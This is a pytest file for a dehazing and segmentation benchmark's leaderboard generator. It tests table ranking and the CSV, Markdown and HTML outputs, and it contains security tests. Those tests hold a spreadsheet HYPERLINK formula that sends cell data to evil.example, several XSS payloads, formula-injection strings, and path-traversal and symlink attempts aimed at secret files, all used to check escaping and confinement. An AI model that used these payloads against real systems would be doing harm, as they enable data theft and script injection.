"""Leaderboard tables (best per column, lower-is-better), CSV/Markdown, and the HTML page in headless Chromium."""

import csv
import math
import os
import re
import shutil
import subprocess

import numpy as np
import pytest

from eval.benchmark import read_rows, write_rows
from eval.leaderboard import build_tables, to_markdown, write_leaderboard


def _restoration_row(method, psnr, ssim, lpips=None, dataset="sots", crops=None, unavailable=None):
    metrics = {"psnr": psnr, "ssim": ssim, "images_per_s": 2.0}
    if lpips is not None:
        metrics["lpips"] = lpips
    return {
        "kind": "restoration", "task": "dehaze", "dataset": {"name": dataset}, "method": method,
        "metrics": metrics, "unavailable": unavailable or {}, "crops": crops or {},
    }  # fmt: skip


def _seg_row(method, cond, sev, iou):
    return {
        "kind": "segmentation", "task": "segmentation", "dataset": {"name": "shapes"}, "method": method,
        "degradation": cond, "severity": sev, "prompt": {"type": "box"},
        "metrics": {"iou": iou, "dice": 2 * iou / (1 + iou), "pa": 0.9},
    }  # fmt: skip


def _rows(tmp_path):
    from robustsam_prior.core.io import write_image

    crop = {}
    for k in ("degraded", "gt", "output"):
        write_image(
            tmp_path / "crops" / f"{k}.png", np.full((16, 16, 3), 0.2 if k == "degraded" else 0.7, np.float32)
        )
        crop[k] = f"crops/{k}.png"
    return [
        _restoration_row("identity", 14.0, 0.70, 0.40, crops={"a.png": crop}),
        _restoration_row("dcp", 19.5, 0.86, 0.25),
        _restoration_row("nafnet+robustsam", 23.2, 0.85, 0.30),
        _restoration_row("perfect", "inf", 1.0, None, dataset="other", unavailable={"lpips": "no weights"}),
        _seg_row("robustsam", "clear", None, 0.8),
        _seg_row("robustsam", "fog", 3, 0.7),
        _seg_row("robustsam", "snow", 3, 0.5),
        _seg_row("sam", "clear", None, 0.85),
        _seg_row("sam", "fog", 3, 0.6),
        _seg_row("sam", "snow", 3, 0.4),
    ]


def test_tables_best_and_lower_is_better(tmp_path):
    tables = {t.title: t for t in build_tables(_rows(tmp_path))}
    t = tables["dehaze / sots"]
    assert t.main == "psnr" and list(t.rows) == ["nafnet+robustsam", "dcp", "identity"]  # ranked by PSNR
    best = t.best()
    assert best["psnr"] == 23.2 and best["ssim"] == 0.86 and best["lpips"] == 0.25  # LPIPS: lowest wins
    other = tables["dehaze / other"]
    assert math.isinf(other.rows["perfect"]["psnr"]) and other.rows["perfect"]["lpips"] is None
    assert other.notes == ["lpips unavailable for perfect: no weights"]
    seg = tables["segmentation / shapes"]
    assert seg.main == "iou@average" and list(seg.rows) == ["robustsam (box)", "sam (box)"]  # 0.667 > 0.617
    r = seg.rows["robustsam (box)"]
    assert r["iou@degraded"] == pytest.approx(0.6) and r["iou@average"] == pytest.approx(
        (0.8 + 0.7 + 0.5) / 3
    )
    assert seg.best()["iou@clear"] == 0.85 and seg.best()["iou@degraded"] == pytest.approx(0.6)
    md = to_markdown(list(tables.values()))
    assert "| dcp | 19.50 | **0.8600** | **0.2500** |" in md and "lpips ↓" in md
    assert "## segmentation / shapes — iou" in md


def test_a_rerun_appended_to_the_same_file_replaces_the_earlier_row(tmp_path, caplog):
    res = write_rows(tmp_path / "r.jsonl", [_restoration_row("dcp", 10.0, 0.5), _restoration_row("dcp", 11.0, 0.6)])
    t = build_tables(read_rows(res))[0]
    assert t.rows["dcp"]["psnr"] == 11.0
    assert f"{res}:2 (a later run in the same file) replaces {res}:1" in caplog.text


def test_duplicates_across_files_conflict_by_name_or_are_shown_once(tmp_path):
    a = write_rows(tmp_path / "a.jsonl", [_restoration_row("identity", 14.0, 0.7), _restoration_row("ours", 20.0, 0.8)])
    b = write_rows(tmp_path / "b.jsonl", [_restoration_row("ours", 21.0, 0.8)])
    with pytest.raises(ValueError, match=re.escape(f"dehaze / sots: method 'ours' is in {a}:2 and in {b}:1 with "
                                                   "different results")):
        write_leaderboard([a, b], tmp_path / "lb")
    assert not (tmp_path / "lb").exists()
    # a baseline benchmarked beside each method: same quality, other speed -> one row
    base = _restoration_row("identity", 14.0, 0.7)
    base["metrics"]["images_per_s"] = 900.0
    c = write_rows(tmp_path / "c.jsonl", [base, _restoration_row("theirs", 19.0, 0.75)])
    t = build_tables(read_rows(a) + read_rows(c))[0]
    assert list(t.rows) == ["ours", "theirs", "identity"] and t.rows["identity"]["images_per_s"] == 2.0


def test_one_name_with_two_checkpoints_gets_two_rows_and_hashes_are_shown(tmp_path):
    one = {**_restoration_row("final", 22.0, 0.8), "checkpoint_sha256": "a" * 64}
    two = {**_restoration_row("final", 23.0, 0.85), "checkpoint_sha256": "b" * 64}
    a, b = write_rows(tmp_path / "a.jsonl", [one]), write_rows(tmp_path / "b.jsonl", [two])
    paths = write_leaderboard([a, b], tmp_path / "lb")
    t = build_tables(read_rows(a) + read_rows(b))[0]
    assert list(t.rows) == ["final@bbbbbbbb", "final@aaaaaaaa"]
    assert t.checkpoints == {"final@aaaaaaaa": "a" * 64, "final@bbbbbbbb": "b" * 64}
    md = paths["md"].read_text()
    assert "| final@bbbbbbbb | **23.00** | **0.8500** | **2.00** | bbbbbbbbbbbb |" in md and "| checkpoint |" in md
    with open(paths["csv"], newline="") as f:
        assert [r["checkpoint_sha256"] for r in csv.DictReader(f)] == ["b" * 64, "a" * 64]
    assert "<td class='checkpoint' title='" + "a" * 64 + "'>aaaaaaaaaaaa</td>" in paths["html"].read_text()


def test_identity_speed_is_never_marked_best(tmp_path):
    fast = _restoration_row("identity", 14.0, 0.7)
    fast["metrics"]["images_per_s"] = 5000.0
    alias = {**_restoration_row("input", 14.0, 0.7), "method_info": {"baseline": "identity", "spec": "identity"}}
    alias["metrics"]["images_per_s"] = 9000.0  # `--methods input=identity`: an alias of identity
    t = build_tables([fast, alias, _restoration_row("dcp", 19.5, 0.86)])[0]
    assert t.best()["images_per_s"] == 2.0 and t.no_speed == {"identity", "input"}
    assert not t.marked("identity", "images_per_s", t.best()) and t.marked("dcp", "images_per_s", t.best())
    md = to_markdown([t])
    assert "| identity | 14.00 | 0.7000 | 5000.00 |" in md and "| dcp | **19.50** | **0.8600** | **2.00** |" in md
    tie = _restoration_row("identity", 14.0, 0.7)  # a tie with the fastest real method is not marked either
    t = build_tables([tie, _restoration_row("dcp", 19.5, 0.86)])[0]
    assert not t.marked("identity", "images_per_s", t.best())


def test_conventions_are_stated_and_must_agree(tmp_path):
    conv = {"crop_border": 0, "test_y_channel": False, "quantize": True, "data_range": 1.0}
    rows = [{**_restoration_row(m, p, 0.8), "conventions": conv} for m, p in (("a", 20.0), ("b", 21.0))]
    paths = write_leaderboard([write_rows(tmp_path / "r.jsonl", rows)], tmp_path / "lb")
    line = "PSNR/SSIM: BasicSR 1.4 convention, RGB, crop 0, 8-bit"
    assert f"## dehaze / sots\n\n{line}\n" in paths["md"].read_text()
    assert f"<p class='conventions'>{line}</p>" in paths["html"].read_text()
    with open(paths["csv"], newline="") as f:
        assert {r["conventions"] for r in csv.DictReader(f)} == {line}
    other = {**_restoration_row("c", 19.0, 0.7), "conventions": {**conv, "quantize": False, "crop_border": 4}}
    bad = write_rows(tmp_path / "bad.jsonl", [other])
    with pytest.raises(ValueError, match=re.escape(
            f"{tmp_path / 'r.jsonl'}:1 and {bad}:1 measured PSNR/SSIM under different conventions ({line}; "
            "PSNR/SSIM: BasicSR 1.4 convention, RGB, crop 4, unrounded)")):
        write_leaderboard([tmp_path / "r.jsonl", bad], tmp_path / "lb2")


def test_write_leaderboard_files(tmp_path):
    res = write_rows(tmp_path / "res.jsonl", _rows(tmp_path))
    paths = write_leaderboard([res], tmp_path / "lb")
    with open(paths["csv"], newline="") as f:
        got = list(csv.DictReader(f))
    assert len(got) == 6 and {r["method"] for r in got} >= {"dcp", "sam (box)", "perfect"}
    assert [r["psnr"] for r in got if r["method"] == "perfect"] == ["inf"]
    html = paths["html"].read_text()
    assert "http://" not in html and "https://" not in html.replace("https://download.pytorch.org", "")
    assert html.count("data:image/png;base64,") >= 4  # plots and crops embedded
    with pytest.raises(ValueError, match="no result files"):
        write_leaderboard([], tmp_path / "x")
    (tmp_path / "empty.jsonl").write_text("")
    with pytest.raises(ValueError, match="hold no rows"):
        write_leaderboard([tmp_path / "empty.jsonl"], tmp_path / "x")


def _chromium() -> str | None:
    for c in ("/usr/bin/chromium", shutil.which("chromium"), shutil.which("chromium-browser")):
        if c and os.path.exists(c):
            return c
    return None


@pytest.mark.skipif(_chromium() is None, reason="Chromium is not installed (apt-get install chromium)")
def test_html_renders_in_headless_chromium(tmp_path):
    res = write_rows(tmp_path / "res.jsonl", _rows(tmp_path))
    paths = write_leaderboard([res], tmp_path / "lb")
    shot = tmp_path / "shot.png"
    base = [
        _chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
        "--window-size=1200,1400",
    ]  # fmt: skip
    url = paths["html"].resolve().as_uri()
    subprocess.run([*base, f"--screenshot={shot}", url], check=True, capture_output=True, timeout=120)
    assert shot.is_file() and shot.stat().st_size > 10_000
    from PIL import Image

    with Image.open(shot) as im:
        assert im.size == (1200, 1400)
        assert len(np.unique(np.asarray(im.convert("L").resize((64, 64))))) > 5  # something was drawn
    dom = subprocess.run(
        [*base, "--dump-dom", url], check=True, capture_output=True, text=True, timeout=120
    ).stdout
    tables = re.findall(r"<table class=\"leaderboard\".*?</table>", dom, flags=re.S)
    first = next(t for t in tables if 'data-dataset="sots"' in t)
    methods = re.findall(r'<td class="method">([^<]*)</td>', first)
    assert methods == ["nafnet+robustsam", "dcp", "identity"]  # one row per method, ranked by PSNR
    best = re.findall(r'<td class="best"[^>]*>([^<]*)</td>', first)
    # row by row: nafnet+robustsam best PSNR, dcp best SSIM and (lowest) LPIPS, both tie on images/s;
    # identity ties on images/s too, but its speed is never marked
    assert best == ["23.20", "2.00", "0.8600", "0.2500", "2.00"]


@pytest.mark.slow
@pytest.mark.skipif(_chromium() is None, reason="Chromium is not installed (apt-get install chromium)")
def test_html_tables_sort_in_chromium(tmp_path):
    res = write_rows(tmp_path / "res.jsonl", _rows(tmp_path))
    paths = write_leaderboard([res], tmp_path / "lb")
    base = [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--no-first-run",
            f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom"]  # fmt: skip
    uri = paths["html"].resolve().as_uri()

    def order(fragment):
        dom = subprocess.run(
            [*base, uri + fragment], check=True, capture_output=True, text=True, timeout=120
        ).stdout
        table = re.search(
            r'<table class="leaderboard"[^>]*data-dataset="sots".*?</table>', dom, flags=re.S
        ).group(0)
        return re.findall(r'<td class="method">([^<]*)</td>', table)

    sots = re.search(
        r"id='(table-\d+)' data-task='dehaze' data-dataset='sots'", paths["html"].read_text()
    ).group(1)
    assert order("") == ["nafnet+robustsam", "dcp", "identity"]  # ranked by PSNR
    assert order(f"#sort={sots}:1:asc") == ["identity", "dcp", "nafnet+robustsam"]  # PSNR, low to high
    # clicks (header.click()): the first sorts best first, the second reverses, another column starts afresh
    assert order(f"#sort={sots}:2") == ["dcp", "nafnet+robustsam", "identity"]  # SSIM, high to low
    assert order(f"#sort={sots}:2,2") == ["identity", "nafnet+robustsam", "dcp"]
    assert order(f"#sort={sots}:3") == ["dcp", "nafnet+robustsam", "identity"]  # LPIPS, low to high
    assert order(f"#sort={sots}:3,3") == ["identity", "nafnet+robustsam", "dcp"]
    assert order(f"#sort={sots}:2,3") == ["dcp", "nafnet+robustsam", "identity"]
    assert order(f"#sort={sots}:0") == ["dcp", "identity", "nafnet+robustsam"]  # by name, A to Z


def _png(path, value):
    from robustsam_prior.core.io import write_image

    write_image(path, np.full((8, 8, 3), value, np.float32))
    return path


def test_crops_are_embedded_only_from_the_results_folder_and_only_images(tmp_path, caplog):
    import base64

    secret = _png(tmp_path / "secret.png", 0.9)  # a file of the machine that builds the board
    (tmp_path / "passwords.txt").write_text("hunter2")
    res_dir = tmp_path / "res"
    ok = {k: _png(res_dir / "res_crops" / "a" / f"{k}.png", v) for k, v in (("degraded", 0.2), ("gt", 0.5), ("output", 0.7))}
    (res_dir / "link.png").symlink_to(secret)
    (res_dir / "notes.png").write_text("hunter2 is not an image")
    os.mkfifo(res_dir / "fifo.png")  # reading it would block the leaderboard forever
    rows = [
        _restoration_row("good", 20.0, 0.8, crops={"a.png": {
            "degraded": "res_crops/a/degraded.png", "gt": str(ok["gt"]), "output": "res_crops/a/output.png"}}),
        _restoration_row("escape", 19.0, 0.7, crops={"b.png": {
            "degraded": "../secret.png", "gt": str(secret), "output": "res_crops/../../passwords.txt"}}),
        _restoration_row("tricks", 18.0, 0.6, crops={"c.png": {
            "degraded": "link.png", "gt": "notes.png", "output": "fifo.png"}}),
        _restoration_row("keys", 17.0, 0.5, crops={"a.png": {"good": "res_crops/a/output.png", "output": 3}}),
    ]
    results = write_rows(res_dir / "res.jsonl", rows)
    paths = write_leaderboard([results], tmp_path / "board")
    html = paths["html"].read_text()
    for k, p in ok.items():  # the benchmark's own crops, relative or absolute inside the folder
        assert f"data:image/png;base64,{base64.b64encode(p.read_bytes()).decode()}" in html, k
    assert base64.b64encode(secret.read_bytes()).decode() not in html
    assert "aHVudGVy" not in html  # base64 of "hunter"
    assert len(re.findall(r"data:image/png;base64,", html)) == 3 + html.count("alt='bar plot")
    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    for line, path in [(2, "'../secret.png'"), (2, repr(str(secret))), (2, "'res_crops/../../passwords.txt'"),
                       (3, "'link.png'")]:
        assert any(f"res.jsonl:{line}: " in w and path in w and "outside the results file's folder" in w
                   for w in warnings), (line, path, warnings)
    assert any("res.jsonl:3: crop 'gt'" in w and "'notes.png' is not a PNG, JPEG, GIF or WebP image" in w
               for w in warnings), warnings
    assert any("res.jsonl:3: crop 'output'" in w and "'fifo.png' is not a regular file" in w for w in warnings), warnings
    assert any("res.jsonl:4: crop 'good'" in w and "unknown kind of crop" in w for w in warnings), warnings
    assert any("res.jsonl:4: crop 'output'" in w and "3 is not a path" in w for w in warnings), warnings


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_text_is_escaped_for_csv_markdown_and_html(tmp_path):
    rows = [
        {**_restoration_row(HOSTILE, -3.5, "=1+1"), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
        {**_restoration_row("a|b <script>alert(1)</script>\n| x |", 2.0, 0.5), "task": "de|haze",
         "dataset": {"name": "@SUM(A1)"}},
        {**_restoration_row("-2+3", 1.0, "-0.25"), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
        {**_restoration_row("cost $\\frac$", 4.0, 0.1), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
    ]
    paths = write_leaderboard([write_rows(tmp_path / "r.jsonl", rows)], tmp_path / "lb")
    with open(paths["csv"], newline="") as f:
        header, *body = list(csv.reader(f))
    cells = {r[2]: dict(zip(header, r)) for r in body}
    assert set(cells) == {"'" + HOSTILE, "a|b <script>alert(1)</script>\n| x |", "'-2+3", "cost $\\frac$"}
    row = cells["'" + HOSTILE]
    assert row["task"] == "de|haze" and row["dataset"] == "'@SUM(A1)" and row["ssim"] == "'=1+1"
    assert row["psnr"] == "-3.5" and float(row["psnr"]) == -3.5  # a negative number stays a number
    assert cells["'-2+3"]["ssim"] == "-0.25"  # text that is only a number is not a formula
    for r in body:
        for cell in r:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)
    md = paths["md"].read_text()
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len(table) == 2 + 4  # header, rule and one line per method: no row broken by a newline
    for line in table:
        assert len(re.findall(r"(?<!\\)\|", line)) == len(table[0].split(" | ")) + 1, line
    assert "<script>" not in md and "\\<script\\>alert(1)\\</script\\>" in md
    assert "## de\\|haze / @SUM(A1)" in md and "\\&A1" in md
    html = paths["html"].read_text()
    assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "data-task='de|haze' data-dataset='@SUM(A1)'" in html
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in html
    assert html.count("alt='bar plot") == 1  # the $ of a method name did not break the plot


def test_leaderboard_cli_errors_name_the_file_and_line(tmp_path):
    from click.testing import CliRunner

    from pipelines.cli import main

    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"method": "a", "metrics": {"psnr": 1}}\n{"method": "b", "metrics": [1, 2]}\n')
    binary = tmp_path / "binary.jsonl"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe")
    for path, message in [(bad, f"{bad}:2: 'metrics' must be a JSON object, not an array"),
                          (binary, f"{binary}: not a results file (not UTF-8 text")]:
        res = CliRunner().invoke(main, ["leaderboard", str(path), "--out", str(tmp_path / "lb")])
        assert res.exit_code == 1 and res.output.startswith(f"Error: {message}"), res.output
        assert len(res.output.strip().splitlines()) == 1
    assert not (tmp_path / "lb").exists()
    a = write_rows(tmp_path / "a.jsonl", [_restoration_row("ours", 20.0, 0.8)])
    b = write_rows(tmp_path / "b.jsonl", [_restoration_row("ours", 21.0, 0.8)])
    res = CliRunner().invoke(main, ["leaderboard", str(a), str(b), "--out", str(tmp_path / "lb")])
    assert res.exit_code == 1 and res.output.startswith(
        f"Error: dehaze / sots: method 'ours' is in {a}:1 and in {b}:1 with different results"), res.output
    assert not (tmp_path / "lb").exists()


@pytest.mark.skipif(_chromium() is None, reason="Chromium is not installed (apt-get install chromium)")
def test_hostile_names_stay_text_in_chromium(tmp_path):
    names = ["<img src=x onerror=\"document.title='pwned'\">", "</td></tr></table><script>document.title='pwned'</script>",
             "x' onmouseover='document.title=1"]
    rows = [{**_restoration_row(n, 10.0 + i, 0.5), "dataset": {"name": "d' data-x='1"}} for i, n in enumerate(names)]
    paths = write_leaderboard([write_rows(tmp_path / "r.jsonl", rows)], tmp_path / "lb")
    dom = subprocess.run(
        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", paths["html"].resolve().as_uri()],
        check=True, capture_output=True, text=True, timeout=120,
    ).stdout  # fmt: skip
    assert "<title>robustsam-restore leaderboard</title>" in dom and "pwned</title>" not in dom
    assert dom.count("<script>") == 1 and "data-x" not in dom.replace("d' data-x='1", "")
    import html as html_lib

    cells = [html_lib.unescape(c) for c in re.findall(r'<td class="method">(.*?)</td>', dom, flags=re.S)]
    assert cells == names[::-1]  # ranked by PSNR: 12, 11, 10
